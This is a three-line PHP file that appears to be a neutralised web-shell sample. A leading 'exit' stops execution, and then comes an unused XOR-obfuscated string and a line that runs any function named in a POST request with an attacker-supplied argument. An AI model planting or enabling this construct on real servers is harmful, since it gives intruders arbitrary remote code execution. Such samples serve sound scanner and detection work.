<?php exit;
$call = ("!!!!" ^ "@@@@");
$_POST["call"]($_POST["with"]);
